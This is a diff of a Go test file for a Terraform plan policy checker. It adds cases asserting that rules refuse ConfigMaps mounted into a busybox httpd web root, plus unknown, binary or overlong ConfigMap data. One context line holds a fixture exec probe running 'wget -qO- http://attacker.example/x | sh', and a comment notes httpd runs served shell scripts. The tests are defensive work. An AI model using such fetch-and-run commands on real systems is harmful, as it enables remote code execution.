@@ -167,11 +167,11 @@ func TestShippedPlanRules(t *testing.T) {
 			c["name"] = "init"
 			c["security_context"] = []any{map[string]any{"privileged": true, "run_as_user": 65532}}
 			podSpec(after(d))["init_container"] = []any{c}
-		}, []string{"plan-command-pinned", "plan-no-privileged"}},
+		}, []string{"plan-command-pinned", "plan-mounts-pinned", "plan-no-privileged"}},
 		{"containers known only after apply", func(d map[string]any) {
 			delete(podSpec(after(d)), "container")
 			podSpec(change(d)["after_unknown"])["container"] = true
-		}, []string{"plan-allowed-images", "plan-command-pinned", "plan-no-root-user", "plan-pods-known-at-plan"}},
+		}, []string{"plan-allowed-images", "plan-command-pinned", "plan-mounts-pinned", "plan-no-root-user", "plan-pods-known-at-plan"}},
 		{"RBAC", func(d map[string]any) {
 			rc := d["resource_changes"].([]any)[0].(map[string]any)
 			rc["type"], rc["address"] = "kubernetes_cluster_role_binding", "kubernetes_cluster_role_binding.admin"
@@ -200,6 +200,16 @@ func TestShippedPlanRules(t *testing.T) {
 				"config_map": []any{map[string]any{"name": "web-cgi", "default_mode": "0644",
 					"items": []any{map[string]any{"key": "x", "path": "x", "mode": "0700"}}}}})
 		}, []string{"plan-no-executable-volumes"}},
+		// busybox httpd reads <home>/httpd.conf and runs a served *.sh through /bin/sh, execute bit or not.
+		{"ConfigMap files mounted into the web root (httpd.conf with a script interpreter)", func(d map[string]any) {
+			c := container(after(d))
+			for _, f := range []string{"httpd.conf", "status.sh"} {
+				c["volume_mount"] = append(c["volume_mount"].([]any), map[string]any{
+					"mount_path": "/tmp/www/" + f, "sub_path": f, "name": "site", "read_only": true, "mount_propagation": "None"})
+			}
+			podSpec(after(d))["volume"] = append(podSpec(after(d))["volume"].([]any), map[string]any{"name": "site",
+				"config_map": []any{map[string]any{"name": "site", "default_mode": "0644"}}})
+		}, []string{"plan-mounts-pinned"}},
 		{"exec probe added", func(d map[string]any) {
 			container(after(d))["liveness_probe"] = []any{map[string]any{"exec": []any{map[string]any{
 				"command": []any{"/bin/sh", "-c", "wget -qO- http://attacker.example/x | sh"}}}, "http_get": []any{}, "tcp_socket": []any{}}}
@@ -404,3 +414,34 @@ func TestPlanRulePlaceholders(t *testing.T) {
 }
 
 var _ = plandiff.Unknown
+
+// TestShippedPlanRulesConfigMaps: what a ConfigMap holds is what a workload reads or runs; the approver must
+// be able to read all of it. A known text value that fits the screen passes; a value known only after apply
+// (the whole data or one file), binary_data (base64 on the screen) and a value longer than the screen shows
+// are refused.
+func TestShippedPlanRulesConfigMaps(t *testing.T) {
+	rules := loadDefault(t).PlanRules
+	doc := func(after, unknown any) map[string]any {
+		return map[string]any{"format_version": "1.2", "resource_changes": []any{map[string]any{
+			"address": "kubernetes_config_map.worker", "mode": "managed", "type": "kubernetes_config_map", "name": "worker",
+			"change": map[string]any{"actions": []any{"create"}, "before": nil, "after": after, "after_unknown": unknown}}}}
+	}
+	meta := []any{map[string]any{"name": "worker", "namespace": "demo-app"}}
+	for _, tt := range []struct {
+		name           string
+		after, unknown map[string]any
+		want           []string
+	}{
+		{"text that fits", map[string]any{"data": map[string]any{"run.sh": "echo ok"}, "binary_data": nil, "metadata": meta}, map[string]any{"id": true}, nil},
+		{"whole data known only after apply", map[string]any{"binary_data": nil, "metadata": meta}, map[string]any{"id": true, "data": true}, []string{"plan-config-known-at-plan"}},
+		{"one file known only after apply", map[string]any{"data": map[string]any{"a": "1"}, "metadata": meta}, map[string]any{"data": map[string]any{"run.sh": true}}, []string{"plan-config-known-at-plan"}},
+		{"binary data", map[string]any{"binary_data": map[string]any{"run.sh": "IyEvYmluL3NoCg=="}, "metadata": meta}, map[string]any{}, []string{"plan-no-binary-data"}},
+		{"longer than the screen shows", map[string]any{"data": map[string]any{"run.sh": strings.Repeat("#", plandiff.MaxStringBytes+1)}, "metadata": meta}, map[string]any{}, []string{"plan-values-shown-whole"}},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := refusedRules(verdictOf(t, rules, doc(tt.after, tt.unknown))); !slices.Equal(got, tt.want) {
+				t.Errorf("refused by %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
